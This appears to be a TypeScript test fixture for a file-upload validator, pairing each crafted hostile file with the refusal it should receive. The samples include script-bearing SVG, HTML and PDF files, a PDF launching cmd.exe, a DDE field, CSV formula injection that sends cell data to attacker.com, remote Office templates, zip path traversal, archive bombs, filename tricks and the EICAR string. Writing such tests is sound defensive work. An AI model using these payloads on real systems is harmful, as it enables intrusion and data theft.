// The files of suite 10: what each is, and the verdict that is right for it.
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { maxFileBytes } from '#app/platform/files/file-kinds.ts';
import type { FileRefusal } from '#app/platform/files/verdict.ts';
import { mp3, mp4 } from './audio-files.ts';
import { claimedPng, claimedTiff, gif, noise } from './image-files.ts';
import { docx, openDocument, relationships, xlsx } from './office-files.ts';
import { objectStream, pdf } from './pdf-files.ts';
import { zip } from './zip-writer.ts';

export type HostileUpload = {
  what: string;
  name: string;
  type?: string;
  bytes: () => Buffer | Promise<Buffer>;
  reason: FileRefusal;
};

const svgScript = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const svgUses = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><g id="a0"/>${Array.from({ length: 30 }, (_, n) => `<g id="a${n + 1}"><use xlink:href="#a${n}"/><use xlink:href="#a${n}"/></g>`).join('')}</svg>`;
const page = '<!doctype html><html><body><script>alert(1)</script></body></html>';
const xsl = '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x/>';
const savedPage =
  'From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\n';
const scriptAction = '<</S/JavaScript/JS(app.alert(1))>>';
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);
const eicar = [
  'X5O!P%@AP[4\\PZX54(P^)7CC)7}$',
  'EICAR',
  '-STANDARD-',
  'ANTIVIRUS-TEST-FILE!$H+H*',
].join('');

// prettier-ignore
export const hostileUploads: readonly HostileUpload[] = [
  // Markup.
  { what: 'SVG with a script', name: 'plan.svg', bytes: () => Buffer.from(svgScript), reason: 'type-not-allowed' },
  { what: 'SVG with a script as PNG', name: 'plan.png', bytes: () => Buffer.from(svgScript), reason: 'polyglot' },
  { what: 'SVG bomb of <use>', name: 'plan.svg', bytes: () => Buffer.from(svgUses), reason: 'type-not-allowed' },
  { what: 'SVG bomb of <use> as JPEG', name: 'plan.jpg', bytes: () => Buffer.from(svgUses), reason: 'polyglot' },
  { what: 'HTML', name: 'page.html', bytes: () => Buffer.from(page), reason: 'type-not-allowed' },
  { what: 'HTML as text', name: 'page.txt', bytes: () => Buffer.from(page), reason: 'markup' },
  { what: 'XHTML', name: 'page.xhtml', bytes: () => Buffer.from(page), reason: 'type-not-allowed' },
  { what: 'XHTML as text', name: 'page.txt', bytes: () => Buffer.from(`\uFEFF ${page.replace('<!doctype html>', '')}`), reason: 'markup' },
  { what: 'XML with a style sheet', name: 'data.xml', bytes: () => Buffer.from(xsl), reason: 'type-not-allowed' },
  { what: 'XML with a style sheet as a table', name: 'data.csv', bytes: () => Buffer.from(xsl), reason: 'markup' },
  { what: 'a saved page', name: 'page.mhtml', bytes: () => Buffer.from(savedPage), reason: 'type-not-allowed' },
  { what: 'a saved page as text', name: 'page.txt', bytes: () => Buffer.from(savedPage), reason: 'markup' },
  // PDF.
  { what: 'PDF with a script', name: 'a.pdf', bytes: () => pdf({ catalog: `/OpenAction ${scriptAction}` }), reason: 'active-content' },
  { what: 'PDF with a script, its name escaped', name: 'a.pdf', bytes: () => pdf({ catalog: '/OpenAction <</S/J#61vaScrip#74/JS(1)>>' }), reason: 'active-content' },
  { what: 'PDF with a script in an object stream', name: 'a.pdf', bytes: () => pdf({ objects: objectStream(scriptAction) }), reason: 'active-content' },
  { what: 'PDF with a script in a stream of no type', name: 'a.pdf', bytes: () => pdf({ objects: objectStream(scriptAction, { dictionary: '/N 1/First 4/X( obj)/Filter[/FlateDecode]' }) }), reason: 'active-content' },
  { what: 'PDF with objects packed twice', name: 'a.pdf', bytes: () => pdf({ objects: objectStream('', { dictionary: '/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]', data: Buffer.from(deflateSync(`5 0 ${scriptAction}`).toString('hex')) }) }), reason: 'uninspectable' },
  { what: 'PDF with objects that do not unpack', name: 'a.pdf', bytes: () => pdf({ objects: objectStream('', { data: Buffer.from('not deflated') }) }), reason: 'uninspectable' },
  { what: 'PDF with an object stream that is a bomb', name: 'a.pdf', bytes: () => pdf({ objects: objectStream('', { data: deflateSync(zeros(32)) }) }), reason: 'uninspectable' },
  { what: 'PDF with hidden encrypted objects', name: 'a.pdf', bytes: () => pdf({ trailer: '/Encrypt 7 0 R', objects: objectStream('<<>>') }), reason: 'encrypted' },
  { what: 'PDF that starts a program', name: 'a.pdf', bytes: () => pdf({ catalog: '/OpenAction <</S/Launch/F(cmd.exe)>>' }), reason: 'active-content' },
  { what: 'PDF with a dynamic form', name: 'a.pdf', bytes: () => pdf({ catalog: '/AcroForm <</XFA [(a) 8 0 R]>>' }), reason: 'active-content' },
  { what: 'PDF with Flash', name: 'a.pdf', bytes: () => pdf({ objects: '8 0 obj <</Type/Annot/Subtype/RichMedia>> endobj' }), reason: 'active-content' },
  { what: 'PDF that is a page besides', name: 'a.pdf', bytes: () => Buffer.from(`%PDF-1.7\n<html><script>alert(1)</script>\n${pdf().toString('latin1').slice(9)}`), reason: 'polyglot' },
  { what: 'page before a PDF', name: 'a.pdf', bytes: () => Buffer.concat([Buffer.from(page), pdf()]), reason: 'polyglot' },
  { what: 'archive behind a PDF', name: 'a.pdf', bytes: () => Buffer.concat([pdf(), zip([{ name: 'a', data: 'a' }])]), reason: 'polyglot' },
  { what: 'PDF cut short', name: 'a.pdf', bytes: () => pdf().subarray(0, 200), reason: 'broken' },
  { what: 'program as PDF', name: 'a.pdf', bytes: () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(4000)]), reason: 'content-mismatch' },
  // Images.
  { what: 'GIF that is a script besides', name: 'a.gif', bytes: () => Buffer.concat([gif(1), Buffer.from('*/=1;alert(1);')]), reason: 'polyglot' },
  { what: 'GIF in name alone', name: 'a.gif', bytes: () => Buffer.from('GIF89a=1;alert(1);//;'), reason: 'polyglot' },
  { what: 'GIF that declares itself a script', name: 'a.gif', type: 'text/javascript', bytes: () => gif(1), reason: 'declared-mismatch' },
  { what: 'PNG of 16,000 by 16,000', name: 'a.png', bytes: () => claimedPng(16_000, 16_000), reason: 'too-many-pixels' },
  { what: 'PNG of 2 billion by 2 billion', name: 'a.png', bytes: () => claimedPng(0x7fffffff, 0x7fffffff), reason: 'broken' },
  { what: 'PNG cut short', name: 'a.png', bytes: async () => (await noise(300, 300).png().toBuffer()).subarray(0, 20_000), reason: 'broken' },
  { what: 'PNG of fewer rows than it says', name: 'a.png', bytes: () => claimedPng(4000, 4000), reason: 'broken' },
  { what: 'JPEG of another size than it says', name: 'a.jpg', bytes: () => wrongSizedJpeg(), reason: 'broken' },
  { what: 'JPEG that claims 65,500 by 65,500', name: 'a.jpg', bytes: () => wrongSizedJpeg(65_500, 65_500), reason: 'too-many-pixels' },
  { what: 'JPEG with a page behind it', name: 'a.jpg', bytes: async () => Buffer.concat([await noise(20, 20).jpeg().toBuffer(), Buffer.from(page)]), reason: 'polyglot' },
  { what: 'animation of 2,000 frames', name: 'a.gif', bytes: () => gif(2000), reason: 'too-many-frames' },
  { what: 'TIFF', name: 'a.tiff', bytes: () => noise(20, 20).tiff().toBuffer(), reason: 'type-not-allowed' },
  { what: 'TIFF bomb', name: 'a.tif', bytes: () => claimedTiff(60_000, 60_000), reason: 'type-not-allowed' },
  { what: 'TIFF bomb as PNG', name: 'a.png', bytes: () => claimedTiff(60_000, 60_000), reason: 'content-mismatch' },
  { what: 'TIFF as JPEG', name: 'a.jpg', bytes: () => noise(20, 20).tiff().toBuffer(), reason: 'content-mismatch' },
  { what: 'PNG as JPEG', name: 'a.jpg', bytes: () => noise(20, 20).png().toBuffer(), reason: 'content-mismatch' },
  { what: 'AVIF as HEIC', name: 'a.heic', bytes: () => sharp({ create: { width: 9, height: 9, channels: 3, background: 'red' } }).avif().toBuffer(), reason: 'content-mismatch' },
  // Archives and office documents.
  { what: 'an archive', name: 'a.zip', bytes: () => zip([{ name: 'a', data: 'a' }]), reason: 'type-not-allowed' },
  { what: 'an archive as DOCX', name: 'a.docx', bytes: () => zip([{ name: 'a', data: 'a' }]), reason: 'content-mismatch' },
  { what: 'XLSX as DOCX', name: 'a.docx', bytes: () => xlsx(), reason: 'content-mismatch' },
  { what: 'ODS as ODT', name: 'a.odt', bytes: () => openDocument('spreadsheet'), reason: 'content-mismatch' },
  { what: 'a flat bomb', name: 'a.docx', bytes: () => docx({ name: 'word/media/a.bmp', data: zeros(150) }), reason: 'archive-bomb' },
  { what: 'a bomb of many files', name: 'a.docx', bytes: () => docx(...Array.from({ length: 300 }, (_, n) => ({ name: `word/media/${n}.bmp`, data: zeros(0.9) }))), reason: 'archive-bomb' },
  { what: 'a nested bomb', name: 'a.zip', bytes: () => zip([{ name: 'a.zip', data: zip([{ name: 'b.zip', data: zeros(20) }]) }]), reason: 'type-not-allowed' },
  { what: 'a nested bomb as DOCX', name: 'a.docx', bytes: () => zip([{ name: 'a.zip', data: zip([{ name: 'b', data: zeros(20) }]) }]), reason: 'content-mismatch' },
  { what: 'a bomb that lies of its size', name: 'a.docx', bytes: () => docx({ name: 'word/media/a.bmp', data: zeros(20), claimedSize: 1000 }), reason: 'archive-bomb' },
  { what: 'a name that climbs out', name: 'a.docx', bytes: () => docx({ name: '../../etc/cron.d/a', data: 'a' }), reason: 'archive-unsafe' },
  { what: 'a name from the root', name: 'a.docx', bytes: () => docx({ name: '/etc/passwd', data: 'a' }), reason: 'archive-unsafe' },
  { what: 'a name with a backslash', name: 'a.docx', bytes: () => docx({ name: '..\\a', data: 'a' }), reason: 'archive-unsafe' },
  { what: 'a symbolic link', name: 'a.docx', bytes: () => docx({ name: 'word/media/a', data: '/etc/passwd', mode: 0o120777 }), reason: 'archive-unsafe' },
  { what: 'a device', name: 'a.docx', bytes: () => docx({ name: 'word/media/a', data: '', mode: 0o020666 }), reason: 'archive-unsafe' },
  { what: '100,000 entries', name: 'a.docx', bytes: () => zip(Array.from({ length: 100_000 }, (_, n) => ({ name: `a${n}`, data: '', isStored: true }))), reason: 'too-many-entries' },
  { what: 'two entries by one name', name: 'a.docx', bytes: () => docx({ name: 'WORD/document.xml', data: '<a/>' }), reason: 'archive-unsafe' },
  { what: 'an encrypted entry', name: 'a.docx', bytes: () => docx({ name: 'word/a.xml', data: 'a', flags: 1 }), reason: 'encrypted' },
  { what: 'an archive cut short', name: 'a.docx', bytes: () => docx().subarray(0, 900), reason: 'broken' },
  { what: 'a document with macros', name: 'a.docm', bytes: () => docx(), reason: 'type-not-allowed' },
  { what: 'a document with macros as DOCX', name: 'a.docx', bytes: () => docx({ name: 'word/vbaProject.bin', data: 'a' }), reason: 'active-content' },
  { what: 'a workbook with old macros', name: 'a.xlsx', bytes: () => xlsx({ name: 'xl/macrosheets/sheet1.xml', data: '<a/>' }), reason: 'active-content' },
  { what: 'a template from elsewhere', name: 'a.docx', bytes: () => docx({ name: 'word/_rels/settings.xml.rels', data: relationships({ type: 'attachedTemplate', target: 'https://attacker.com/a.dotm', isExternal: true }) }), reason: 'external-reference' },
  { what: 'a template from a share, its mode in entities', name: 'a.docx', bytes: () => docx({ name: 'word/_rels/settings.xml.rels', data: relationships({ type: 'attachedTemplate', target: '\\\\attacker.com\\a.dotm', isExternal: true }).replace('External', '&#69;xternal') }), reason: 'external-reference' },
  { what: 'a template whose tag has a sign of its end inside', name: 'a.docx', bytes: () => docx({ name: 'word/_rels/settings.xml.rels', data: '<Relationships><Relationship Target="http://attacker.com/a>b" TargetMode="External" Type="x/attachedTemplate"/></Relationships>' }), reason: 'external-reference' },
  { what: 'a picture from elsewhere', name: 'a.docx', bytes: () => docx({ name: 'word/_rels/document.xml.rels', data: relationships({ type: 'image', target: 'http://attacker.com/a.png', isExternal: true }) }), reason: 'external-reference' },
  { what: 'a picture from elsewhere in ODT', name: 'a.odt', bytes: () => openDocument('text', { name: 'styles.xml', data: '<x><draw:image xlink:type="simple" xlink:href="https://attacker.com/a.png"/></x>' }), reason: 'external-reference' },
  { what: 'macros in ODT', name: 'a.odt', bytes: () => openDocument('text', { name: 'Basic/Standard/a.xml', data: '<a/>' }), reason: 'active-content' },
  { what: 'an entity bomb', name: 'a.docx', bytes: () => docx({ name: 'word/footnotes.xml', data: '<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>' }), reason: 'active-content' },
  { what: 'a field that starts a program', name: 'a.docx', bytes: () => docx({ name: 'word/header1.xml', data: '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\cmd.exe </w:instrText>' }), reason: 'active-content' },
  { what: 'a part in UTF-16', name: 'a.docx', bytes: () => docx({ name: 'word/a.xml', data: Buffer.from('\uFEFF<a/>', 'utf16le') }), reason: 'uninspectable' },
  { what: 'old Word', name: 'a.doc', bytes: () => Buffer.from('d0cf11e0a1b11ae1', 'hex'), reason: 'type-not-allowed' },
  { what: 'old Word as DOCX', name: 'a.docx', bytes: () => Buffer.from('d0cf11e0a1b11ae1', 'hex'), reason: 'content-mismatch' },
  // Text.
  { what: 'a table with a formula', name: 'a.csv', bytes: () => Buffer.from('Имя,Сумма\nА,=HYPERLINK("http://attacker.com?"&A1)\n'), reason: 'formula' },
  { what: 'a table with a quoted formula', name: 'a.csv', bytes: () => Buffer.from('Имя;Сумма\nА;"=1+1"\n'), reason: 'formula' },
  { what: 'a table with a command', name: 'a.csv', bytes: () => Buffer.from("a\n+cmd|' /C calc'!A0\n"), reason: 'formula' },
  { what: 'RTF as text', name: 'a.txt', bytes: () => Buffer.from('{\\rtf1\\ansi{\\object}}'), reason: 'content-mismatch' },
  { what: 'a program as text', name: 'a.txt', bytes: () => Buffer.concat([Buffer.from('\u007fELF\u0002\u0001', 'latin1'), Buffer.alloc(100)]), reason: 'content-mismatch' },
  { what: 'the test virus', name: 'a.txt', bytes: () => Buffer.from(eicar), reason: 'malware-signature' },
  // Sound.
  { what: 'a film as sound', name: 'a.m4a', bytes: () => mp4(['vide', 'soun']), reason: 'content-mismatch' },
  { what: 'MP4 without sound', name: 'a.m4a', bytes: () => mp4([]), reason: 'broken' },
  { what: 'MP3 as WAV', name: 'a.wav', bytes: () => mp3(), reason: 'content-mismatch' },
  { what: 'a page behind MP3', name: 'a.mp3', bytes: () => Buffer.concat([mp3(), Buffer.from(page)]), reason: 'polyglot' },
  // Sizes, names and claims.
  { what: 'nothing', name: 'a.pdf', bytes: () => Buffer.alloc(0), reason: 'empty' },
  { what: 'one byte over the limit', name: 'a.pdf', bytes: () => Buffer.concat([pdf(), Buffer.alloc(maxFileBytes + 1 - pdf().length, ' ')]), reason: 'too-large' },
  { what: 'a program', name: 'a.exe', bytes: () => Buffer.from('MZ'), reason: 'type-not-allowed' },
  { what: 'two endings', name: 'a.pdf.exe', bytes: () => pdf(), reason: 'type-not-allowed' },
  { what: 'an ending turned round', name: 'a\u202Efdp.exe', bytes: () => pdf(), reason: 'type-not-allowed' },
  { what: 'no ending', name: 'pdf', bytes: () => pdf(), reason: 'type-not-allowed' },
  { what: 'an ending alone', name: '.pdf', bytes: () => pdf(), reason: 'type-not-allowed' },
  { what: 'an ending cut by NUL', name: 'a.exe\u0000.pdf ', bytes: () => pdf(), reason: 'type-not-allowed' },
  { what: 'a stream behind the name', name: 'a.pdf:b.exe', bytes: () => pdf(), reason: 'type-not-allowed' },
  { what: 'PDF that declares itself a page', name: 'a.pdf', type: 'text/html', bytes: () => pdf(), reason: 'declared-mismatch' },
];

/** A picture of 200 by 200 whose header claims another size. */
async function wrongSizedJpeg(width = 3000, height = 3000): Promise<Buffer> {
  const jpeg = await noise(200, 200).jpeg().toBuffer();
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  jpeg.writeUInt16BE(height, frame + 5);
  jpeg.writeUInt16BE(width, frame + 7);
  return jpeg;
}
